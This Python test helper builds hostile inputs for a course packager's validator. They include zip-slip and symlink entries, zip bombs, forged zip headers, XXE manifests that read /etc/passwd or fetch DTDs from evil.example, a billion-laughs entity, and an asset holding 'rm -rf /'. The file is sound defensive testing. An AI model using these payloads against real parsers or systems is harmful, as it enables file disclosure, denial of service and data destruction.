"""Hostile inputs, generated: mutated course trees for `build` and crafted zips for `validate`.

Used by the tests (`test_hostile_sources.py`, `test_hostile_packages.py`) and by
`bench/bench_hostile.py`. Zips are written byte by byte (`raw_zip`), so they can lie about sizes,
carry unknown compression methods, symlink modes or non-UTF-8 names, and a bomb of 2 GiB costs one
compression of 1 MiB.
"""

from __future__ import annotations

import base64
import os
import random
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

TESTS = Path(__file__).resolve().parent
MINIMAL = TESTS / "fixtures" / "courses" / "minimal"
MODULE = "01-basics"


# --- Zips, byte by byte ------------------------------------------------------------------------


@dataclass(frozen=True)
class Entry:
    """One zip entry as written: `data` is already compressed with `method`."""

    name: bytes
    data: bytes = b""
    size: int | None = None  # uncompressed size claimed (default: len of the data, if stored)
    crc: int = 0
    method: int = 0
    flags: int = 0
    mode: int = 0o100644
    create_system: int = 3


def stored(name: str | bytes, data: bytes, **kw: int) -> Entry:
    """An uncompressed entry."""
    raw = name.encode() if isinstance(name, str) else name
    return Entry(raw, data, len(data), zlib.crc32(data), 0, **kw)


def deflated(name: str, data: bytes) -> Entry:
    """A deflated entry."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = c.compress(data) + c.flush()
    return Entry(name.encode(), packed, len(data), zlib.crc32(data), 8)


def raw_zip(entries: list[Entry], *, claim_entries: int | None = None) -> bytes:
    """A zip of `entries`; `claim_entries` forges the entry count of the end records (zip64)."""
    out = bytearray()
    central = bytearray()
    for e in entries:
        size = len(e.data) if e.size is None else e.size
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            e.flags,
            e.method,
            0,
            0x21,
            e.crc,
            len(e.data),
            size & 0xFFFFFFFF,
            len(e.name),
            0,
        )
        out += e.name + e.data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            (e.create_system << 8) | 20,
            20,
            e.flags,
            e.method,
            0,
            0x21,
            e.crc,
            len(e.data),
            size & 0xFFFFFFFF,
            len(e.name),
            0,
            0,
            0,
            0,
            (e.mode & 0xFFFF) << 16,
            offset,
        )
        central += e.name
    cd_offset, cd_size = len(out), len(central)
    out += central
    count = len(entries) if claim_entries is None else claim_entries
    if count > 0xFFFF:
        zip64 = len(out)
        out += struct.pack(
            "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, cd_size, cd_offset
        )
        out += struct.pack("<IIQI", 0x07064B50, 0, zip64, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, cd_size, cd_offset, 0)
    else:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, 0)
    return bytes(out)


def entries_of(package: Path) -> list[Entry]:
    """The entries of a real package, re-packed as stored entries (a valid base to add to)."""
    with zipfile.ZipFile(package) as zf:
        return [stored(i.filename, zf.read(i)) for i in zf.infolist()]


MANIFEST_12 = b"""<?xml version="1.0"?>
%s<manifest identifier="M" version="1" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2"
 xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
<metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
<organizations default="O"><organization identifier="O"><title>%s</title>
<item identifier="I" identifierref="R"><title>T</title></item></organization></organizations>
<resources><resource identifier="R" type="webcontent" adlcp:scormtype="sco" href="index.html">
<file href="index.html"/></resource></resources></manifest>
"""


def manifest12(doctype: bytes = b"", title: bytes = b"T") -> bytes:
    """A small SCORM 1.2 manifest, optionally with a DOCTYPE and a title using its entities."""
    return MANIFEST_12 % (doctype, title)


def _ok(*extra: Entry, manifest: bytes | None = None) -> list[Entry]:
    return [
        stored("imsmanifest.xml", manifest if manifest is not None else manifest12()),
        stored("index.html", b"<!doctype html><title>x</title>"),
        *extra,
    ]


def _bomb_entries(count: int, size: int) -> list[Entry]:
    zeros = bytes(size)
    one = deflated("x", zeros)
    return [Entry(f"assets/z{i:05}.bin".encode(), one.data, size, one.crc, 8) for i in range(count)]


def _huge_manifest() -> bytes:
    files = b"".join(
        b'<file href="%s.html"/>' % os.urandom(24).hex().encode() for _ in range(70_000)
    )
    return manifest12().replace(b'<file href="index.html"/>', files)


#: name -> (zip bytes factory, a phrase the one line about it must contain).
HOSTILE_ZIPS: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip-slip": (lambda: raw_zip(_ok(stored("../evil.js", b"x"))), "unsafe zip entry name"),
    "absolute-path": (lambda: raw_zip(_ok(stored("/etc/x.js", b"x"))), "unsafe zip entry name"),
    "symlink": (
        lambda: raw_zip(_ok(stored("runtime/passwd.js", b"/etc/passwd", mode=0o120777))),
        "symbolic link",
    ),
    "fifo": (lambda: raw_zip(_ok(stored("runtime/pipe", b"", mode=0o010644))), "special file"),
    "bomb-2047x1MiB": (
        lambda: raw_zip(_ok(*_bomb_entries(2047, 1024**2))),
        "bytes uncompressed, more than",
    ),
    "bomb-900x1MiB": (lambda: raw_zip(_ok(*_bomb_entries(900, 1024**2))), "zip bomb"),
    "bomb-one-entry": (lambda: raw_zip(_ok(*_bomb_entries(1, 512 * 1024**2))), "zip bomb"),
    "unknown-method": (
        lambda: raw_zip(_ok(Entry(b"a.js", b"xyz", 3, 0, 99))),
        "compression method",
    ),
    "bzip2-method": (
        lambda: raw_zip(_ok(Entry(b"a.js", b"BZh9", 3, 0, 12))),
        "compression method",
    ),
    "encrypted": (lambda: raw_zip(_ok(stored("a.js", b"xyz", flags=1))), "encrypted"),
    "non-utf8-name": (
        lambda: raw_zip(_ok(stored(b"caf\xe9\xff.js", b"x", flags=0x800))),
        "not valid UTF-8",
    ),
    "lying-crc": (
        lambda: raw_zip(_ok(Entry(b"a.js", b"let x = 1;", 10, 1234, 0))),
        "cannot read",
    ),
    "lying-size": (
        lambda: raw_zip(_ok(Entry(b"a.js", deflated("a", b"let x = 1;").data, 10**6, 0, 8))),
        "cannot read",
    ),
    "escapes-in-name": (
        lambda: raw_zip(_ok(stored("x\n\x1b[2Jfake.php", b""))),
        "x\\n\\x1b[2Jfake.php: file type '.php' is refused",
    ),
    "duplicate": (lambda: raw_zip(_ok(stored("index.html", b"y"))), "duplicate"),
    "external-entity": (
        lambda: raw_zip(
            _ok(
                manifest=manifest12(
                    b'<!DOCTYPE manifest [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"&x;"
                )
            )
        ),
        "DOCTYPE",
    ),
    "parameter-entity": (
        lambda: raw_zip(
            _ok(
                manifest=manifest12(
                    b'<!DOCTYPE manifest [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
                )
            )
        ),
        "DOCTYPE",
    ),
    "external-dtd": (
        lambda: raw_zip(
            _ok(manifest=manifest12(b'<!DOCTYPE manifest SYSTEM "http://evil.example/m.dtd">'))
        ),
        "DOCTYPE",
    ),
    "billion-laughs": (
        lambda: raw_zip(
            _ok(
                manifest=manifest12(
                    b'<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
                    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>',
                    b"&c;",
                )
            )
        ),
        "DOCTYPE",
    ),
    "huge-manifest": (lambda: raw_zip(_ok(manifest=_huge_manifest())), "manifest"),
    "many-entries": (
        lambda: raw_zip(_ok(*(stored(f"f{i}.txt", b"") for i in range(20_001)))),
        "entries",
    ),
    "lying-count": (
        lambda: raw_zip(_ok(*(stored(f"{i:07}", b"") for i in range(290_000))), claim_entries=3),
        "entries",
    ),
    "forged-2M-entries": (
        lambda: raw_zip(_ok(), claim_entries=2_000_000),
        "entries",
    ),
    "secret-in-svg": (
        lambda: raw_zip(_ok(stored("assets/a.svg", b'<svg><!-- "auth": "s3cret" --></svg>'))),
        "credential",
    ),
    "secret-in-jsx": (
        lambda: raw_zip(_ok(stored("src/a.jsx", b'const c = <Lrs auth="Basic dXNlcjpwdw==" />;'))),
        "credential",
    ),
    "secret-in-json5": (
        lambda: raw_zip(_ok(stored("cfg.json5", b"{endpoint: 'https://u:pw@lrs.example/x'}"))),
        "credential",
    ),
    "token-in-query": (
        lambda: raw_zip(_ok(stored("a.js", b'fetch("https://lrs.example/x?token=abc123")'))),
        "credential",
    ),
    "not-a-zip": (lambda: b"PK\x05\x06" + b"\0" * 10, "cannot read"),
    "truncated": (lambda: raw_zip(_ok())[:-30], "cannot read"),
}


def hostile_folder(root: Path, outside: Path) -> Path:
    """A package folder whose asset is a symlink to a file outside it carrying a credential."""
    outside.mkdir(parents=True, exist_ok=True)
    (outside / "secret.js").write_text('const c = {"auth": "Basic dXNlcjpwdw=="};\n')
    pkg = root / "pkg"
    pkg.mkdir(parents=True)
    (pkg / "imsmanifest.xml").write_bytes(manifest12())
    (pkg / "index.html").write_text("<!doctype html><title>x</title>")
    (pkg / "runtime").mkdir()
    (pkg / "runtime" / "leak.js").symlink_to(outside / "secret.js")
    return pkg


# --- Course trees ------------------------------------------------------------------------------


def copy_minimal(dest: Path) -> Path:
    """A fresh copy of the minimal fixture course at `dest`."""
    shutil.copytree(MINIMAL, dest)
    return dest


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    if old not in text:
        raise AssertionError(f"{old!r} not in {path}")
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _scenario(steps: list[str]) -> str:
    return (
        "questions:\n  - id: case\n    type: scenario\n    objective: apply\n    prompt: A case.\n"
        "    explanation: Because.\n    source: Page two\n    steps:\n" + "".join(steps)
    )


def _step(i: int, nexts: list[int | None]) -> str:
    opts = "".join(
        f"          - text: Option {k}\n            feedback: F.\n            points: {k % 3 + 1}\n"
        + (f"            next: s{n}\n" if n is not None else "")
        for k, n in enumerate(nexts)
    )
    return f"      - id: s{i}\n        text: Step {i}.\n        options:\n{opts}"


def _write_scenario(course: Path, steps: list[str]) -> None:
    (course / MODULE / "assessments" / "pre-test.yaml").write_text(_scenario(steps))


def _alias_bomb(course: Path) -> None:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        refs = ",".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    (course / "glossary.yaml").write_text("\n".join(lines) + "\n")


def _bad_name(course: Path) -> None:
    pages = course / MODULE / "pages"
    shutil.copy(pages / "02-the-rule.md", pages / os.fsdecode(b"03-caf\xe9\xff.md"))


def _compressible_asset(course: Path) -> None:
    # Over 1 MiB and deflating over 1000:1, as a zip bomb would (a page that big is refused).
    (course / MODULE / "assets").mkdir()
    (course / MODULE / "assets" / "table.csv").write_text("0,0,0,0\n" * 400_000)


def _in_course(old: str, new: str) -> Callable[[Path], None]:
    return lambda c: _edit(c / "course.yaml", old, new)


def _in_post_test(old: str, new: str) -> Callable[[Path], None]:
    return lambda c: _edit(c / MODULE / "assessments" / "post-test.yaml", old, new)


def _title(value: str) -> Callable[[Path], None]:
    return _in_course("title: Minimal test course", f"title: {value}")


def _asset(name: str, text: str) -> Callable[[Path], None]:
    def make(c: Path) -> None:
        (c / MODULE / "assets").mkdir()
        (c / MODULE / "assets" / name).write_text(text)

    return make


def _copy_page(new: str) -> Callable[[Path], None]:
    pages = Path(MODULE) / "pages"
    return lambda c: shutil.copy(c / pages / "02-the-rule.md", c / pages / new)


#: name -> mutation of a copy of the minimal course (each made invalid in one way).
HOSTILE_SOURCES: dict[str, Callable[[Path], None]] = {
    "alias-bomb": _alias_bomb,
    "deep-nesting": _in_course("[test]", "[" * 780 + "]" * 780),
    "5000-digit-int": _in_course("duration_minutes: 10", "duration_minutes: " + "9" * 5000),
    "float-tag": _in_course("mastery_score: 80", "mastery_score: !!float x"),
    "nan-mastery": _in_course("mastery_score: 80", "mastery_score: .nan"),
    "inf-weight": _in_post_test("    source: Physics\n", "    source: Physics\n    weight: .inf\n"),
    "huge-weight": _in_post_test(
        "    source: Physics\n", "    source: Physics\n    weight: 1.0e+308\n"
    ),
    "form-feed-title": _title('"Minimal\\f course"'),
    "nul-description": _in_course("description: The", 'description: "\\0 The"\n#'),
    "esc-title": _title('"\\e[31m red"'),
    "ufffe-title": _title('"\\uFFFE x"'),
    "surrogate-title": _title('"\\uD800 x"'),
    "course-id-quotes": _in_course("minimal\n", 'minimal"<script>\n'),
    "page-name-space": _copy_page('03-the rule\'s "page".md'),
    "non-utf8-file-name": _bad_name,
    "scenario-exponential": lambda c: _write_scenario(
        c, [_step(i, [j if j < 12 else None for j in range(i + 1, i + 10)]) for i in range(12)]
    ),
    "scenario-1000-chain": lambda c: _write_scenario(
        c, [_step(i, [i + 1 if i < 999 else None]) for i in range(1000)]
    ),
    "scenario-cycle": lambda c: _write_scenario(c, [_step(0, [1]), _step(1, [0, None])]),
    "php-asset": _asset("x.php", "<?php"),
    "sh-asset": _asset("run.sh", "rm -rf /"),
    "compressible-asset": _compressible_asset,
}


def text_heavy_zip(mib: int) -> bytes:
    """A package with `mib` MiB of text full of the literals the credential scanner looks for.

    Under every ratio limit (each line has fresh random bytes), so `validate` has to read and
    scan it: the worst case for its time. Used by bench/bench_hostile.py.
    """
    rng = random.Random(15)
    bait = b' Basic %s "auth" x://y secret token %s\n'
    entries = []
    for i in range(mib):
        lines = [
            bait % (base64.b64encode(rng.randbytes(24)), base64.b64encode(rng.randbytes(48)))
            for _ in range(1024 * 1024 // 128)
        ]
        data = b"".join(lines)[: 1024 * 1024]
        entries.append(deflated(f"assets/t{i:04}.txt", data))
    return raw_zip(_ok(*entries))
